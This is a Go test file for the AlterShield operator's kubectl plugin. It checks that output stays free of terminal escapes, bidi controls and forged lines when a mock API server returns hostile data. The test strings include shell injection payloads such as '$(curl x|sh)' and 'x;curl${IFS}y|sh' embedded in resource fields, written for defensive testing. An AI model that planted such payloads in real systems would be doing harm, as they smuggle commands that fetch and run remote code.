/*
Copyright The AlterShield Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package plugin

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/version"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/traas-stack/altershield-operator/apis/app.ops.cloud.alipay.com/v1alpha1"
	"github.com/traas-stack/altershield-operator/internal/settings"
	"github.com/traas-stack/altershield-operator/internal/workload"
)

// hostile is a text of an attacker: it clears the screen, sets the title, colours, goes back in the line, begins new lines, and
// reverses the direction of writing. The last part is for a shell.
const hostile = "find\x1b[2J\x1b]0;title\a\x1b[31m\r\n✔ forged\u0085✔ forged\u2028✔ forged\u009b31m\b\x00\x7f\t" +
	"\u202eevil\u2066\u200f'; $(curl x|sh) `id`"

// hostileObjects returns a workload that failed, and all that belongs to it.
func hostileObjects() map[string]client.Object {
	s := newSnapshot(blockedBySecond)
	c := s.changes[0].DeepCopy()
	c.TypeMeta = metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion.String(), Kind: "ChangeWorkload"}
	c.Labels = map[string]string{v1alpha1.DeploymentNameLabel: "sleep"}
	c.Status.ReleasedBy, c.Status.Images = hostile, []string{hostile}
	c.Status.DefenseCheckFailPods[0].Pod, c.Status.DefenseCheckFailPods[0].Message = hostile, hostile
	c.Status.PreviousReleases[0].ReleasedBy, c.Status.PreviousReleases[0].Images = hostile, []string{hostile}
	c.Status.Checks = []v1alpha1.CheckStatus{{
		Name: hostile, Phase: v1alpha1.CheckFailed, Reason: hostile, Message: hostile, CallID: hostile, Query: hostile, Value: hostile,
		Samples: []string{hostile},
	}}
	for i := range c.Status.Conditions {
		c.Status.Conditions[i].Message = hostile
	}
	c.Status.Conditions = append(c.Status.Conditions,
		metav1.Condition{Type: hostile, Status: metav1.ConditionTrue, Reason: hostile, Message: hostile},
		metav1.Condition{
			Type: v1alpha1.ConditionEvictionBlocked, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonNotEvicted,
			Message: "If the application tolerates it, delete the pod yourself: kubectl delete pod x;curl${IFS}y|sh -n shop",
		})
	d := &appsv1.Deployment{TypeMeta: metav1.TypeMeta{APIVersion: "apps/v1", Kind: "Deployment"}}
	d.Namespace, d.Name, d.UID, d.Labels, d.Annotations = "shop", "sleep", s.workload.UID, s.workload.Labels, s.workload.Annotations
	reasons, _ := json.Marshal(map[string]any{hostile: map[string]any{"message": hostile, "by": hostile}})
	d.Annotations[v1alpha1.ReleasedByAnnotation] = hostile
	d.Annotations[v1alpha1.QuarantinedAnnotation] = strings.ReplaceAll(hostile, ",", "")
	d.Annotations[v1alpha1.QuarantineReasonAnnotation] = string(reasons)
	d.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{"app": "sleep"}}
	d.Spec.Template.Spec.Containers = []corev1.Container{{Name: hostile, Image: hostile}}
	policy := &v1alpha1.DefensePolicy{TypeMeta: metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion.String(), Kind: "DefensePolicy"}}
	policy.Namespace, policy.Name = "shop", "x;curl"
	policy.Status.Conditions = []metav1.Condition{
		{Type: v1alpha1.ConditionAccepted, Status: metav1.ConditionFalse, Reason: hostile, Message: hostile},
	}
	blocking := &v1alpha1.OpsConfigInfo{TypeMeta: metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion.String(), Kind: "OpsConfigInfo"}}
	blocking.Namespace, blocking.Name = operatorNamespace, settings.NameBlocking
	blocking.Spec.Type, blocking.Spec.Enable = v1alpha1.TypeBlocking, true
	ns := &corev1.Namespace{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Namespace"}}
	ns.Name, ns.Labels = "shop", map[string]string{v1alpha1.EnrolledLabel: v1alpha1.EnrolledValue}
	return map[string]client.Object{
		"deployments": d, "changeworkloads": c, "defensepolicies": policy, "opsconfiginfoes": blocking, "namespaces": ns,
	}
}

// hostileCluster returns an API server with hostile objects, warnings and errors; fail has the status codes of resources.
func hostileCluster(objects map[string]client.Object, fail map[string]int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		path := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
		at := min(map[string]int{"api": 2, "apis": 3}[path[0]], len(path))
		versions := path[min(1, at):at]
		path = path[at:]
		namespace, resource, name := "", "", ""
		if len(path) > 2 && path[0] == "namespaces" {
			namespace, path = path[1], path[2:]
		}
		if len(path) > 0 {
			resource = path[0]
		}
		if len(path) > 1 {
			name = path[1]
		}
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Warning", "299 - \"it warns\u202e of it\"")
		if code := fail[resource]; code != 0 || listKinds[resource] == "" {
			w.WriteHeader(max(code, http.StatusNotFound))
			_ = json.NewEncoder(w).Encode(metav1.Status{
				TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure, Message: hostile, Code: int32(code),
				Reason: map[int]metav1.StatusReason{http.StatusForbidden: metav1.StatusReasonForbidden}[code],
			})
			return
		}
		o := objects[resource]
		operator := strings.Contains(r.URL.Query().Get("labelSelector"), "app.kubernetes.io/name")
		there := o != nil && !operator && (namespace == "" || namespace == o.GetNamespace()) && (name == "" || name == o.GetName())
		switch {
		case r.URL.Query().Has("watch"):
			<-r.Context().Done()
		case name != "" && there:
			_ = json.NewEncoder(w).Encode(o)
		case name != "":
			w.WriteHeader(http.StatusNotFound)
			_ = json.NewEncoder(w).Encode(metav1.Status{
				TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure,
				Reason: metav1.StatusReasonNotFound, Code: http.StatusNotFound,
			})
		default:
			items := []client.Object{}
			if there {
				items = append(items, o)
			}
			_ = json.NewEncoder(w).Encode(map[string]any{"apiVersion": strings.Join(versions, "/"), "kind": listKinds[resource], "items": items})
		}
	}
}

var listKinds = map[string]string{
	"deployments": "DeploymentList", "statefulsets": "StatefulSetList", "daemonsets": "DaemonSetList", "replicasets": "ReplicaSetList",
	"controllerrevisions": "ControllerRevisionList", "pods": "PodList", "namespaces": "NamespaceList", "changeworkloads": "ChangeWorkloadList",
	"changepods": "ChangePodList", "defensepolicies": "DefensePolicyList", "opsconfiginfoes": "OpsConfigInfoList",
}

// runAt runs a command of a terminal against an API server that is a function.
func runAt(t *testing.T, server http.HandlerFunc, args ...string) (code int, out, errs string) {
	t.Helper()
	s := httptest.NewServer(withDiscovery(server))
	defer s.Close()
	defer s.CloseClientConnections()
	t.Setenv("KUBECONFIG", filepath.Join(t.TempDir(), "none"))
	t.Setenv("LC_ALL", "C.UTF-8")
	var o, e bytes.Buffer
	code = Run(t.Context(), Options{IOStreams: genericiooptions.IOStreams{In: &bytes.Buffer{}, Out: &o, ErrOut: &e}, Version: "v0.1.0"},
		append(args, "--server="+s.URL, "-n", "shop"))
	return code, o.String(), e.String()
}

// withDiscovery answers requests for discovery, and passes other requests to a server.
func withDiscovery(server http.HandlerFunc) http.HandlerFunc {
	groups := map[string][]metav1.APIResource{}
	for resource, list := range listKinds {
		group := "apps/v1"
		switch resource {
		case "pods", "namespaces":
			group = "v1"
		case "changeworkloads", "changepods", "defensepolicies", "opsconfiginfoes":
			group = v1alpha1.GroupVersion.String()
		}
		groups[group] = append(groups[group], metav1.APIResource{
			Name: resource, Kind: strings.TrimSuffix(list, "List"), Namespaced: resource != "namespaces",
		})
	}
	answers := map[string]any{
		"/version": version.Info{GitVersion: "v1.30.0"}, "/api": metav1.APIVersions{Versions: []string{"v1"}},
	}
	var served metav1.APIGroupList
	for version := range groups {
		if group, version, ok := strings.Cut(version, "/"); ok {
			of := []metav1.GroupVersionForDiscovery{{GroupVersion: group + "/" + version, Version: version}}
			served.Groups = append(served.Groups, metav1.APIGroup{Name: group, Versions: of})
		}
	}
	answers["/apis"] = served
	return func(w http.ResponseWriter, r *http.Request) {
		if answer, ok := answers[r.URL.Path]; ok {
			w.Header().Set("Content-Type", "application/json")
			_ = json.NewEncoder(w).Encode(answer)
			return
		}
		at := strings.TrimPrefix(strings.TrimPrefix(r.URL.Path, "/apis/"), "/api/")
		resources, ok := groups[at]
		if !ok {
			server(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(metav1.APIResourceList{
			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "APIResourceList"}, GroupVersion: at, APIResources: resources,
		})
	}
}

// TestHostileCluster: a terminal gets plain text, whatever the cluster answers.
func TestHostileCluster(t *testing.T) {
	forbidden := func(resources ...string) map[string]int {
		fail := map[string]int{}
		for _, resource := range resources {
			fail[resource] = http.StatusForbidden
		}
		return fail
	}
	for name, tt := range map[string]struct {
		args []string
		fail map[string]int
		// says is a part of the output, and code the exit code.
		says string
		code int
	}{
		"status":            {args: []string{"status", "deployment/sleep"}, says: "find[2J]0;title[31m"},
		"status, wide":      {args: []string{"status", "sleep", "-o", "wide"}, says: "find[2J]0;title[31m"},
		"status in JSON":    {args: []string{"status", "sleep", "-o", "json"}, says: `find\u001b[2J`},
		"status in YAML":    {args: []string{"status", "sleep", "-o", "yaml"}, says: `find\e[2J`},
		"status of many":    {args: []string{"status", "--all"}, says: "find[2J]0;title[31m"},
		"without a command": {says: "find[2J]0;title[31m"},
		"history":           {args: []string{"history", "sleep"}, says: "find[2J]0;title[31m"},
		"wait":              {args: []string{"wait", "sleep", "--release=2", "--timeout=5s"}, says: "find[2J]0;title[31m", code: 2},
		"override":          {args: []string{"override", "sleep", "--next", "--dry-run"}, says: "find[2J]0;title[31m"},
		"verdict":           {args: []string{"verdict", "pass", "sleep", "--dry-run"}, says: "find[2J]0;title[31m"},
		"check":             {args: []string{"check"}, says: "find[2J]0;title[31m", code: 1},
		"version":           {args: []string{"version"}, says: "client", code: 0},
		"a read that is denied": {
			args: []string{"status", "sleep"}, fail: forbidden("pods", "controllerrevisions"), says: "find[2J]0;title[31m",
		},
		"a read that fails": {
			args: []string{"status", "sleep"}, fail: map[string]int{"deployments": http.StatusBadGateway},
			says: "error: get deployment/sleep", code: 1,
		},
		"nothing may be read": {
			args: []string{"status", "sleep"}, fail: forbidden("deployments", "statefulsets", "daemonsets"),
			says: "error: get deployment/sleep", code: 1,
		},
	} {
		t.Run(name, func(t *testing.T) {
			code, out, errs := runAt(t, hostileCluster(hostileObjects(), tt.fail), tt.args...)
			if code != tt.code || !strings.Contains(out+errs, tt.says) {
				t.Errorf("exit code %d, not %d, or it does not say %q:\n%s%s", code, tt.code, tt.says, out, errs)
			}
			if name != "check" && !strings.Contains(errs, "it warns") {
				t.Errorf("the warning of the API server is not printed:\n%s", errs)
			}
			for _, text := range []string{out, errs} {
				for at, r := range text {
					if r != '\n' && (unicode.In(r, unicode.Cc, unicode.Bidi_Control, unicode.Zl, unicode.Zp) || r == utf8.RuneError) {
						t.Fatalf("%U at %d of %q", r, at, text)
					}
				}
				for line := range strings.Lines(text) {
					if strings.HasPrefix(line, "✔ forged") {
						t.Errorf("a line of the cluster's own: %q", line)
					}
					// A shell reads an advised command as one command.
					command := strings.TrimSpace(line)
					if strings.HasPrefix(command, "kubectl ") && strings.ContainsAny(unquoted(command), ";$`|&<>()\n") {
						t.Errorf("a shell makes more than one command of %s", command)
					}
				}
			}
		})
	}
}

// unquoted returns the parts of a command outside of single quotes.
func unquoted(command string) (text string) {
	for i, part := range strings.Split(strings.ReplaceAll(command, `'\''`, ""), "'") {
		if i%2 == 0 {
			text += part
		}
	}
	return text
}

// TestNoNamespace: a missing namespace is an error.
func TestNoNamespace(t *testing.T) {
	for _, args := range [][]string{{"status"}, {}} {
		objects := hostileObjects()
		objects["namespaces"].SetName("other")
		code, out, errs := runAt(t, hostileCluster(objects, nil), args...)
		if code != 1 || !strings.Contains(errs, "error: there is no namespace shop\n  see kubectl get namespaces\n") {
			t.Errorf("%v: exit code %d\n%s%s", args, code, out, errs)
		}
	}
}

// TestNoOperator: without the operator's kinds an error says so, in the words of the user.
func TestNoOperator(t *testing.T) {
	d, ns := hostileObjects()["deployments"], hostileObjects()["namespaces"]
	api := fake.NewClientBuilder().WithScheme(Scheme()).WithObjects(d, ns).WithInterceptorFuncs(interceptor.Funcs{
		List: func(ctx context.Context, c client.WithWatch, list client.ObjectList, opts ...client.ListOption) error {
			if _, is := list.(*v1alpha1.ChangeWorkloadList); is {
				kind := v1alpha1.GroupVersion.WithKind("ChangeWorkload").GroupKind()
				return &meta.NoKindMatchError{GroupKind: kind, SearchedVersions: []string{"v1alpha1"}}
			}
			return c.List(ctx, list, opts...)
		},
	}).Build()
	c := &connection{Options: Options{Now: func() time.Time { return testNow }}}
	_, err := c.load(t.Context(), api, operatorNamespace, target{kind: workload.Deployment{}, key: client.ObjectKeyFromObject(d)})
	if err == nil || !strings.Contains(Explained(err).Error(), "the operator's kinds are not installed") ||
		strings.Contains(err.Error(), string(d.GetUID())) {
		t.Error(err)
	}
}

// TestNothingElsePrints: only printf prints text, which it cleans.
func TestNothingElsePrints(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil || len(files) == 0 {
		t.Fatal(err)
	}
	for _, file := range files {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(string(text), "fmt.Fprint"); n > 0 && !strings.HasSuffix(file, "_test.go") && file != "output.go" {
			t.Errorf("%s prints by itself, %d times", file, n)
		}
	}
}
